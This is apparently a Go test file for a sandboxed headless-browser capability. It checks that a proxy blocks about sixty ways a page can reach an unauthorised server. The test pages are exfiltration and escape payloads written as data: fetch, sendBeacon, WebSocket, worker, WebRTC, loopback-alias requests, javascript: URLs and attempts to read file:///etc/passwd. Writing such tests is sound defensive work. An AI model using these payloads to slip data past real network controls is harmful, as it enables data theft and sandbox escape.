package browser

import (
	"errors"
	"fmt"
	"net"
	nethttp "net/http"
	"net/netip"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stilehost/stile/abi"
	"github.com/stilehost/stile/capabilities/http"
	"github.com/stilehost/stile/capability"
)

// outside are servers on this machine that no rule may name: a web server, and one for packets. They count what reaches them.
type outside struct {
	url     string
	rule    http.Rule
	packets *net.UDPConn
	hits    atomic.Int64 // requests, connections without one, and packets
}

func newOutside(t *testing.T) *outside {
	t.Helper()
	o := &outside{}
	url, rule := serve(t, nethttp.HandlerFunc(func(w nethttp.ResponseWriter, r *nethttp.Request) {
		o.hits.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		switch {
		case strings.HasSuffix(r.URL.Path, ".js"):
			w.Header().Set("Content-Type", "text/javascript")
		case strings.HasSuffix(r.URL.Path, ".css"):
			w.Header().Set("Content-Type", "text/css")
		default:
			w.Header().Set("Content-Type", "text/html")
		}
	}))
	o.url, o.rule = url, rule
	var err error
	if o.packets, err = net.ListenUDP("udp4", net.UDPAddrFromAddrPort(netip.MustParseAddrPort("127.0.0.1:0"))); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = o.packets.Close() })
	go func() {
		for {
			if _, _, err := o.packets.ReadFromUDP(make([]byte, 2048)); err != nil {
				return
			}
			o.hits.Add(1)
		}
	}()
	return o
}

// vector is a way out that a page tries. In its text, OUT is the URL of the server outside, HOST its host and port, WS that of its
// WebSockets, PORT and UDP its ports.
type vector struct {
	name string
	// page tries it. It may have a tried, which is called when it has.
	page string
	// act is done after the page has loaded.
	act string
	// never is set if the way leads nowhere, whatever the rules say: then there is no request that the proxy could refuse.
	never bool
	// main is set if the page itself leaves, so that its next state is the denial.
	main bool
}

const tried = `<script>const tried = () => { document.title = 'tried' };</script>`

var vectors = []vector{
	{name: "meta refresh", page: `<meta http-equiv=refresh content="0;url=OUT/x">`, main: true},
	{name: "script leaves", page: `<script>location = 'OUT/x'</script>`, main: true},
	{name: "history", page: `<script>history.pushState(null, '', '/other'); location.replace('OUT/x')</script>`, main: true},
	{name: "link", page: `<a id=go href=OUT/x style="display:block">go</a>`, act: "#go", main: true},
	{name: "link to a new window", page: `<a id=go href=OUT/x target=_blank style="display:block">go</a>`, act: "#go", main: true},
	{name: "form", page: `<form method=post action=OUT/x><input name=secret value=1><button id=go>go</button></form>`, act: "#go", main: true},
	{name: "form of a script", page: `<form id=f method=post action=OUT/x enctype=multipart/form-data><input name=a></form><script>f.submit()</script>`, main: true},
	{name: "download", page: `<a id=go href=OUT/x.bin download style="display:block">go</a>`, act: "#go", main: true},
	{name: "image", page: `<img src=OUT/x.png>`},
	{name: "image set", page: `<picture><source srcset="OUT/x.png 1x"><img></picture>`},
	{name: "script", page: `<script src=OUT/x.js></script>`},
	{name: "module", page: `<script type=module>import 'OUT/x.js'</script>`},
	{name: "style", page: `<link rel=stylesheet href=OUT/x.css>`},
	{name: "import of a style", page: `<style>@import url(OUT/x.css);</style>`},
	{name: "background", page: `<div style="background:url(OUT/x.png)">x</div>`},
	{name: "font", page: `<style>@font-face{font-family:f;src:url(OUT/f.woff2)} p{font-family:f}</style><p>x`},
	{name: "video", page: `<video src=OUT/x.mp4 preload=auto autoplay muted></video>`},
	{name: "object", page: `<object data=OUT/x.html></object>`},
	{name: "embed", page: `<embed src=OUT/x.html type=text/html>`},
	{name: "SVG", page: `<svg><image href="OUT/x.png" width=10 height=10 /></svg>`},
	{name: "icon", page: `<link rel=icon href=OUT/icon.png>`, never: true}, // a browser without windows loads none
	{name: "manifest", page: `<link rel=manifest href=OUT/m.json>`, never: true},
	{name: "iframe", page: `<iframe src=OUT/x></iframe>`},
	{name: "iframe in an iframe", page: `<iframe srcdoc="<iframe src=OUT/x></iframe>"></iframe>`},
	{name: "iframe of data", page: `<iframe src="data:text/html,<img src=OUT/x.png>"></iframe>`},
	{name: "fetch", page: `<script>fetch('OUT/x', {mode: 'no-cors'}).catch(() => 0)</script>`},
	{name: "fetch with a body", page: `<script>fetch('OUT/x', {mode: 'no-cors', method: 'POST', body: 'x'.repeat(10000)}).catch(() => 0)</script>`},
	{name: "keepalive", page: `<script>fetch('OUT/x', {mode: 'no-cors', keepalive: true}).catch(() => 0)</script>`},
	{name: "XMLHttpRequest", page: `<script>const x = new XMLHttpRequest(); x.open('GET', 'OUT/x'); x.send()</script>`},
	{name: "beacon", page: `<script>navigator.sendBeacon('OUT/x', 'data')</script>`},
	{name: "ping of a link", page: `<a id=go href="#x" ping=OUT/x style="display:block">go</a>`, act: "#go"},
	{name: "EventSource", page: `<script>new EventSource('OUT/x')</script>`},
	{name: "WebSocket", page: `<script>new WebSocket('WS/x')</script>`},
	{name: "WebSocket with TLS", page: `<script>new WebSocket('wss://HOST/x')</script>`, never: true},
	{name: "https to the same port", page: `<img src=https://HOST/x.png>`, never: true},
	{name: "worker", page: `<script>new Worker(URL.createObjectURL(new Blob(["fetch('OUT/x', {mode: 'no-cors'})"])))</script>`},
	{name: "shared worker", page: `<script>new SharedWorker(URL.createObjectURL(new Blob(["fetch('OUT/x', {mode: 'no-cors'})"])))</script>`},
	{name: "service worker", page: `<script>navigator.serviceWorker.register('/worker.js?OUT')</script>`},
	{name: "worklet", page: `<script>CSS.paintWorklet?.addModule('OUT/x.js').catch(() => 0)</script>`, never: true}, // needs a secure context
	{name: "prefetch", page: `<link rel=prefetch href=OUT/x>`},
	{name: "preload", page: `<link rel=preload as=image href=OUT/x.png>`},
	{name: "module preload", page: `<link rel=modulepreload href=OUT/x.js>`},
	{name: "preconnect", page: `<link rel=preconnect href=OUT>`, never: true},
	{name: "DNS prefetch", page: `<link rel=dns-prefetch href=//HOST>`, never: true},
	{name: "speculation rules", page: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["OUT/x"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["OUT/y"],"eagerness":"immediate"}]}</script>`, never: true},
	{name: "popup", page: `<script>window.open('OUT/x'); window.open('OUT/y', '_blank', 'popup,noopener')</script>`, never: true},
	{name: "CSP report", page: `<meta http-equiv=content-security-policy content="img-src 'none'; report-uri OUT/x"><img src=/x.png>`, never: true},
	{name: "WebRTC", page: tried + `<script>const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}, {urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'a', credential: 'b'}]});
setTimeout(tried, 500); c.createDataChannel('d'); c.onicegatheringstatechange = () => c.iceGatheringState == 'complete' && tried(); c.createOffer().then((o) => c.setLocalDescription(o))</script>`, never: true},
	{name: "WebTransport", page: tried + `<script>try { new WebTransport('https://127.0.0.1:UDP/').ready.catch(tried) } catch { tried() }</script>`, never: true},
	{name: "localhost", page: `<img src=http://localhost:PORT/x.png>`, never: true},
	{name: "IPv6 loopback", page: `<img src=http://[::1]:PORT/x.png>`, never: true},
	{name: "IPv4 in IPv6", page: `<img src=http://[::ffff:127.0.0.1]:PORT/x.png>`, never: true},
	{name: "this host", page: `<img src=http://0.0.0.0:PORT/x.png>`, never: true},
	{name: "other loopback", page: `<img src=http://127.1.2.3:PORT/x.png>`, never: true},
	{name: "name of loopback", page: `<img src=http://a.localhost:PORT/x.png>`, never: true},
	{name: "file", page: tried + `<img src=file:///etc/passwd><iframe src=file:///etc/passwd></iframe><script>fetch('file:///etc/passwd').catch(tried); try { location = 'file:///etc/passwd' } catch {}</script>`, never: true},
	{name: "data", page: tried + `<script>setTimeout(tried, 50); location = 'data:text/html,<script>fetch("OUT/x")<' + '/script>'</script>`, never: true},
	{name: "chrome", page: tried + `<iframe src=chrome://version></iframe><script>setTimeout(tried, 50); try { location = 'chrome://version' } catch {}</script>`, never: true},
	{name: "view-source", page: tried + `<script>setTimeout(tried, 50); try { location = 'view-source:OUT/x' } catch {}</script>`, never: true},
	{name: "devtools", page: tried + `<script>setTimeout(tried, 50); try { location = 'devtools://devtools/bundled/inspector.html?ws=HOST' } catch {}</script>`, never: true},
	{name: "javascript", page: tried + `<script>setTimeout(tried, 50); location = 'javascript:void fetch("OUT/x", {mode: "no-cors"})'</script>`},
	{name: "blob", page: tried + `<iframe id=f></iframe><script>f.src = URL.createObjectURL(new Blob(['<img src=OUT/x.png>'], {type: 'text/html'}))</script>`},
	{name: "other scheme", page: tried + `<script>setTimeout(tried, 50); location = 'ftp://HOST/x'; location = 'ws://HOST/x'; location = 'mailto:a@HOST'</script>`, never: true},
	{name: "after leaving", page: `<script>addEventListener('pagehide', () => navigator.sendBeacon('OUT/x', 'data')); setTimeout(() => location = '/other', 20)</script>`},
}

// TestWaysOut has pages try every way out of the rules: in an empty network, and in that of this process, where the proxy alone keeps them.
// Each way is also tried with a rule that allows it, to prove that the page does what it should.
func TestWaysOut(t *testing.T) {
	for _, unconfined := range []bool{false, true} {
		t.Run(fmt.Sprintf("unconfined=%v", unconfined), func(t *testing.T) {
			o := newOutside(t)
			var page atomic.Value
			page.Store("")
			url, rule := serve(t, nethttp.HandlerFunc(func(w nethttp.ResponseWriter, r *nethttp.Request) {
				w.Header().Set("Content-Type", "text/html;charset=utf-8")
				switch r.URL.Path {
				case "/":
					_, _ = fmt.Fprint(w, page.Load())
				case "/worker.js":
					w.Header().Set("Content-Type", "text/javascript")
					_, _ = fmt.Fprintf(w, `fetch('%s/x', {mode: 'no-cors'}).catch(() => 0)`, r.URL.RawQuery)
				default:
					_, _ = fmt.Fprint(w, "x")
				}
			}))
			site := capability.NewSite(t.TempDir(), nil)
			site.Configure(Kind, EngineOptions{Unconfined: unconfined, forceUnconfined: unconfined})
			defer func() { _ = site.Close() }()
			host := strings.TrimPrefix(o.url, "http://")
			_, port, _ := net.SplitHostPort(host)
			fill := strings.NewReplacer("OUT", o.url, "HOST", host, "WS", "ws://"+host, "PORT", port, "UDP", fmt.Sprint(o.packets.LocalAddr().(*net.UDPAddr).Port))
			for _, v := range vectors {
				t.Run(v.name, func(t *testing.T) {
					page.Store(fill.Replace(v.page))
					for _, allowed := range []bool{false, true} {
						if allowed && v.never {
							continue
						}
						o.hits.Store(0)
						rules := []http.Rule{rule}
						if allowed {
							rules = append(rules, o.rule)
						}
						s := sessionAt(t, site, Rights{Rules: rules})
						var seen []*abi.Error
						p, err := s.Open(t.Context(), url)
						_, err = take(t, p, err)
						if v.act != "" && err == nil {
							p, err = s.Click(t.Context(), v.act)
							_, err = take(t, p, err)
						}
						if denied, ok := errors.AsType[*abi.Error](err); ok && denied.Denial != nil {
							seen = append(seen, denied)
						} else if err != nil && !v.main {
							t.Fatal(err)
						}
						switch {
						case allowed:
							eventually(t, "it does not even reach what is allowed", func() bool { return o.hits.Load() > 0 })
						case v.never && strings.Contains(v.page, "tried"):
							p, err := s.WaitFor(t.Context(), Awaited{Case: AwaitedURL, URL: new("*")})
							must(t, p, err)
							eventually(t, "the page does not say that it has tried", func() bool {
								p, err := s.Evaluate(t.Context(), "document.title", "[]")
								o, err := take(t, p, err) // it fails while the page is about to go elsewhere
								return err == nil && *o.Text == `"tried"`
							})
						case v.never:
						default:
							eventually(t, "the proxy has denied nothing", func() bool {
								s.held.turn <- struct{}{}
								if s.held.tab != nil {
									seen = append(seen, s.held.tab.out.Denied()...)
								}
								<-s.held.turn
								return len(seen) > 0
							})
							if len(seen) == 0 {
								t.FailNow()
							}
							if text := seen[0].Error(); !strings.Contains(text, "port "+port) && !strings.Contains(text, host) {
								t.Errorf("the denial is %s", text)
							}
						}
						if err := s.Close(); err != nil {
							t.Error(err)
						}
						if n := o.hits.Load(); !allowed && n > 0 {
							t.Errorf("it got out %d times", n)
						}
					}
				})
			}
		})
	}
}

// eventually waits until is returns true.
func eventually(t *testing.T, otherwise string, is func() bool) {
	t.Helper()
	end := time.After(10 * time.Second)
	for !is() {
		select {
		case <-end:
			t.Error(otherwise)
			return
		case <-time.After(10 * time.Millisecond):
		}
	}
}
